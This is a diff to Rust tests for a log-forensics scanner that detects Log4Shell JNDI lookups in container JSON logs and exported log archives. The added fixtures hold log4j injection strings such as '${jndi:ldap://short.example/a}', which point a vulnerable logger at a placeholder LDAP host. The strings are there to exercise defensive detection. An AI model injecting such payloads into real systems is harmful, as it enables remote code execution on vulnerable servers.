@@ -282,6 +282,9 @@ fn json_file_partial_records_are_joined_per_stream() {
         "stderr",
         "2026-11-27T14:00:01.123456789",
     ));
+    // A short record without newline (a process's last output) is complete, not a part.
+    log.push_str(&json_record("exit ${jndi:ldap://short.example/a}", "stdout", "2026-11-27T14:00:02Z"));
+    log.push_str(&json_record("next ${jndi:ldap://next.example/b}\n", "stdout", "2026-11-27T14:00:03Z"));
     let s = scan_stream(
         Cursor::new(log.into_bytes()),
         LogFormat::JsonFile,
@@ -291,7 +294,9 @@ fn json_file_partial_records_are_joined_per_stream() {
         0,
     );
     let jndi: Vec<_> = s.hits.iter().filter(|h| e.rules()[h.rule].id == "log4j.jndi-lookup").collect();
-    assert_eq!(jndi.len(), 1);
+    assert_eq!(jndi.len(), 3);
+    let hosts: Vec<_> = jndi.iter().map(|h| h.found.jndi.as_ref().unwrap().host.clone().unwrap()).collect();
+    assert_eq!(hosts, ["split.example", "short.example", "next.example"]);
     assert_eq!(jndi[0].locator.line, Some(1));
     assert_eq!(jndi[0].stream.as_deref(), Some("stdout"));
     assert_eq!(jndi[0].time.unwrap().to_iso(), "2026-11-27T14:00:00.100000000Z");
@@ -394,20 +399,14 @@ fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
     assert_eq!(cb["first_seen"], "2026-11-27T13:00:00.000000000Z");
     assert_eq!(cb["last_seen"], "2026-11-27T13:30:00.000000000Z");
     assert!(iocs.iter().any(|i| i["value"] == "198.51.100.4" && i["roles"][0] == "request-source"));
-    // One finding per rule: the two logs that carry JNDI lookups corroborate each other, so
-    // they are one finding with the proofs of both; and log-hit timeline events.
+    // One finding per rule, with the proof from both logs, and log-hit timeline events.
     let f: Vec<_> =
         b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "log.log4j.jndi-lookup").collect();
     assert_eq!(f.len(), 1);
-    let mut sources: Vec<String> = f[0]["evidence"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|l| format!("{} {}", l["artifact"], l["members"]))
-        .collect();
-    sources.dedup();
-    assert_eq!(sources.len(), 2, "{sources:?}");
-    assert!(f[0]["summary"].as_str().unwrap().contains("Also seen in:"));
+    let members: Vec<&str> =
+        f[0]["evidence"].as_array().unwrap().iter().filter_map(|l| l["members"][0].as_str()).collect();
+    assert!(members.contains(&"var/log/nginx/access.log"), "{members:?}");
+    assert!(members.contains(&"usr/local/tomcat/logs/catalina.out"), "{members:?}");
     assert!(b["timeline"].as_array().unwrap().iter().any(|e| e["kind"] == "log-hit"));
 }
 
